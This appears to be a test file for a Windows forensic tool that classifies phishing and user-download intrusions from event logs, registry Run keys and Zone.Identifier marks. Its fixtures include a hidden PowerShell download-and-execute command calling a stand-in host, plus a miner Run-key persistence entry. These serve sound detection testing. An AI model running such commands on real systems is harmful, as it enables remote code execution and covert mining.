/** Ways into Windows hosts that a user opened himself: documents, attachments, downloads. */
import { describe, expect, test } from 'bun:test';
import { zoneMark } from '../../src/artifacts/windows/file-origins.ts';
import { given } from '../../src/formats/evtx/binxml.fixture.ts';
import type { GivenEvent } from '../../src/formats/evtx/evtx.fixture.ts';
import { type HostSpec, type Keys, ticks } from './windows-host.fixture.ts';
import { at, auditing, guesses, logon, look, mined, usual, ways } from './windows-logs.fixture.ts';

const dropper = 'cmd /c powershell -nop -w hidden -c "iex (irm http://192.0.2.7/a.ps1)"';
const office = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
const explorer = 'C:\\Windows\\explorer.exe';

const started = (
  time: string,
  by: string,
  command: string,
  program = 'C:\\Windows\\System32\\cmd.exe',
): GivenEvent => ({
  provider: auditing,
  channel: 'Security',
  computer: 'WEB-07',
  eventId: 4688,
  us: at(time),
  data: {
    SubjectUserName: 'li',
    NewProcessId: given.hex64(4_711n),
    NewProcessName: program,
    ProcessId: given.hex64(1_234n),
    ParentProcessName: by,
    CommandLine: command,
  },
});

const base = mined('2026-03-01T03:12:00Z');
const mark =
  '[ZoneTransfer]\r\nZoneId=3\r\nReferrerUrl=https://files.example/\r\nHostUrl=https://files.example/setup.exe\r\n';

/** A program that a Run key of the machine starts as a miner, where a user saved it. */
const downloaded = (
  folder: string,
  beside: Readonly<Record<string, string>> = {},
  user: Keys = {},
  name = 'li',
): HostSpec => {
  const below = `Users/${name}/${folder.replaceAll('\\', '/')}/setup.exe`;
  const command = `"C:\\Users\\${name}\\${folder}\\setup.exe" -o stratum+tcp://pool.example.com:3333 -u x -p x`;
  return {
    software: {
      'Microsoft\\Windows\\CurrentVersion\\Run': {
        values: { Update: command },
        written: ticks('2026-03-01T03:12:00Z'),
      },
    },
    user,
    files: {
      [below]: 'MZ stand-in, inert',
      ...Object.fromEntries(Object.entries(beside).map(([ending, text]) => [`${below}${ending}`, text])),
    },
  };
};
const byHand = (path: string): GivenEvent => started('2026-03-01T03:10:00Z', explorer, `"${path}"`, path);

describe('documents and mail', () => {
  test('Word started a dropper, then the first trace', async () => {
    const told = await look(base, {
      Security: [...usual, started('2026-03-01T03:10:00Z', office, dropper)],
    });
    expect(ways(told)).toEqual(['confirmed phishing li ']);
    expect(told.result.entry?.[0]).toMatchObject({ service: 'office', firstSuccess: '2026-03-01T03:10:00Z' });
  });

  test('an ordinary command under Outlook is probable', async () => {
    const told = await look(base, {
      Security: [
        ...usual,
        started('2026-03-01T03:10:00Z', 'C:\\Office\\OUTLOOK.EXE', 'cmd /c "C:\\Users\\li\\AppData\\x.bat"'),
      ],
    });
    expect(ways(told)).toEqual(['probable phishing li ']);
    expect(told.result.entry?.[0]?.missing).toEqual(['ordinary-command']);
  });

  test('WPS too', async () => {
    const told = await look(base, {
      Security: [...usual, started('2026-03-01T03:10:00Z', 'C:\\WPS\\office6\\wps.exe', dropper)],
    });
    expect(ways(told)).toEqual(['confirmed phishing li ']);
  });

  test('an attachment that was opened', async () => {
    const folder = 'AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\X1';
    const told = await look(downloaded(folder), {
      Security: [...usual, byHand(`C:\\Users\\li\\${folder}\\setup.exe`)],
    });
    expect(ways(told)).toEqual(['confirmed phishing li ']);
    expect(told.result.entry?.[0]?.service).toBe('mail');
  });
});

describe('downloads', () => {
  const path = 'C:\\Users\\li\\Downloads\\setup.exe';

  test.each([':Zone.Identifier', '%3AZone.Identifier', '_Zone.Identifier'])(
    'a file with its mark %s, started by hand',
    async (ending) => {
      const told = await look(downloaded('Downloads', { [ending]: mark }), {
        Security: [...usual, byHand(path)],
      });
      expect(ways(told)).toEqual(['confirmed user-download li ']);
      const texts = told.result.entry?.[0]?.chain.map(({ step, text }) => `${step} ${text}`) ?? [];
      expect(texts).toContain('attempt Zone.Identifier: zone 3, https://files.example/setup.exe');
    },
  );

  test('without a mark its folder says less', async () => {
    const told = await look(downloaded('Downloads'), { Security: [...usual, byHand(path)] });
    expect(ways(told)).toEqual(['probable user-download li ']);
    expect(told.result.entry?.[0]?.missing).toEqual(['origin-not-marked']);
  });

  test('the mark as Sysmon saw it', async () => {
    const sysmon: GivenEvent = {
      provider: 'Microsoft-Windows-Sysmon',
      channel: 'x',
      computer: 'WEB-07',
      eventId: 15,
      us: at('2026-03-01T03:08:00Z'),
      data: {
        User: 'WEB-07\\li',
        TargetFilename: `${path}:Zone.Identifier`,
        Contents: mark.replaceAll('\r\n', '  '),
      },
    };
    const told = await look(downloaded('Downloads'), {
      Security: [...usual, byHand(path)],
      'Microsoft-Windows-Sysmon%4Operational': [sysmon],
    });
    expect(ways(told)).toEqual(['confirmed user-download li ']);
  });

  test('started by hand as UserAssist has it, and no log', async () => {
    const turned = (text: string): string =>
      text.replace(/[a-z]/gi, (letter) =>
        String.fromCharCode(letter.charCodeAt(0) + (/[a-m]/i.test(letter) ? 13 : -13)),
      );
    const value = Buffer.alloc(72);
    value.writeUInt32LE(1, 4);
    value.writeBigUInt64LE(ticks('2026-03-01T03:10:00Z'), 60);
    const name = turned('{374DE290-123F-4565-9164-39C4925E467B}\\setup.exe');
    const place =
      'Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\UserAssist\\{CEBFF5CD-ACE2-4F4F-9178-9926F41749EA}\\Count';
    const told = await look(
      downloaded(
        'Downloads',
        { ':Zone.Identifier': mark },
        { [place]: { [name]: Uint8Array.from(value) } },
        'Administrator',
      ),
      {},
    );
    expect(ways(told)).toEqual(['confirmed user-download Administrator ']);
    expect(told.result.entry?.[0]?.firstSuccess).toBe('2026-03-01T03:10:00Z');
  });

  test('a link, or a command that a page told to paste, at the desktop', async () => {
    const told = await look(base, {
      Security: [...usual, started('2026-03-01T03:10:00Z', explorer, dropper)],
    });
    expect(ways(told)).toEqual(['probable user-download li ']);
    expect(told.result.entry?.[0]).toMatchObject({ service: 'explorer', missing: ['origin-not-marked'] });
  });

  test('a script that a messenger saved and started', async () => {
    const told = await look(base, {
      Security: [...usual, started('2026-03-01T03:10:00Z', 'C:\\Tencent\\WeChat\\WeChat.exe', dropper)],
    });
    expect(ways(told)).toEqual(['confirmed phishing li ']);
  });

  test('behind an intruder who guessed a password it is none of the user', async () => {
    const told = await look(downloaded('Downloads', { ':Zone.Identifier': mark }), {
      Security: [
        ...usual,
        ...guesses('203.0.113.9', '2026-03-01T02:00:00Z', 60),
        logon(4624, at('2026-03-01T03:05:00Z'), 'Administrator', '203.0.113.9', 10),
        byHand(path),
      ],
    });
    expect(ways(told)).toEqual([
      'confirmed rdp-brute-force Administrator 203.0.113.9',
      'possible user-download li ',
    ]);
  });
});

describe('no way in', () => {
  test.each<[string, HostSpec, readonly GivenEvent[]]>([
    [
      'a miner in downloads that nothing shows was started',
      downloaded('Downloads', { ':Zone.Identifier': mark }),
      [],
    ],
    [
      'a file with a mark of the own network',
      downloaded('Downloads', { ':Zone.Identifier': '[ZoneTransfer]\r\nZoneId=1\r\n' }),
      [byHand('C:\\Users\\li\\Downloads\\setup.exe')],
    ],
    [
      'an honest download beside another infection',
      {
        ...base,
        files: { 'Users/li/Downloads/tool.exe': 'MZ', 'Users/li/Downloads/tool.exe:Zone.Identifier': mark },
      },
      [byHand('C:\\Users\\li\\Downloads\\tool.exe')],
    ],
    [
      'an add-in of Excel that starts a command each day',
      base,
      ['2026-02-25', '2026-02-27', '2026-03-01'].map((date) =>
        started(`${date}T03:10:00Z`, 'C:\\Office\\EXCEL.EXE', 'cmd /c C:\\addin\\refresh.cmd 17'),
      ),
    ],
    [
      'an administrator who opens a console at the desktop minutes before',
      base,
      [started('2026-03-01T03:10:00Z', explorer, 'cmd.exe')],
    ],
    [
      'an archiver that starts an installer',
      base,
      [
        started(
          '2026-03-01T03:10:00Z',
          'C:\\7-Zip\\7zFM.exe',
          'cmd /c C:\\Users\\li\\AppData\\Local\\Temp\\7zO1\\setup.cmd',
        ),
      ],
    ],
    ['a command under Word long before', base, [started('2026-02-28T20:10:00Z', office, 'cmd /c dir')]],
  ])('%s', async (_, spec, events) => {
    expect(ways(await look(spec, { Security: [...usual, ...events] }))).toEqual([]);
  });

  test('a desktop that is used is clean', async () => {
    const told = await look(
      { files: { 'Users/li/Downloads/tool.exe': 'MZ', 'Users/li/Downloads/tool.exe:Zone.Identifier': mark } },
      {
        Security: [
          ...usual,
          started('2026-03-01T03:10:00Z', office, 'cmd /c dir'),
          byHand('C:\\Users\\li\\Downloads\\tool.exe'),
        ],
      },
    );
    expect(told.result.verdict).toBe('clean');
    expect(told.result.entry ?? []).toEqual([]);
  });
});

describe('the mark', () => {
  test.each<[string, string | Uint8Array, unknown]>([
    ['as browsers write it', mark, { zone: 3, url: 'https://files.example/setup.exe' }],
    ['without a place', '[ZoneTransfer]\nZoneId=4\n', { zone: 4, url: '' }],
    ['of a private window', '[ZoneTransfer]\nZoneId=3\nHostUrl=about:internet\n', { zone: 3, url: '' }],
    ['in UTF-16', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(mark, 'utf16le')]), { zone: 3 }],
    ['of no zone', '[ZoneTransfer]\nZoneId=33\n', undefined],
    ['of another file', 'ZoneId=3', undefined],
    ['nothing', '', undefined],
  ])('%s', (_, text, expected) => {
    const found = zoneMark(typeof text === 'string' ? Buffer.from(text) : text);
    if (expected === undefined) expect(found).toBeUndefined();
    else expect(found).toMatchObject(expected as object);
  });

  test('hostile: an address that says anything, and no end', () => {
    const found = zoneMark(
      Buffer.from(`[ZoneTransfer]\nZoneId=3\nHostUrl=\x1b[2J\u202e${'a'.repeat(9_000)}`),
    );
    expect(String(found?.url)).not.toMatch(/[\x1b\u202e]/);
    expect(found?.url.length).toBeLessThan(4_000);
  });
});
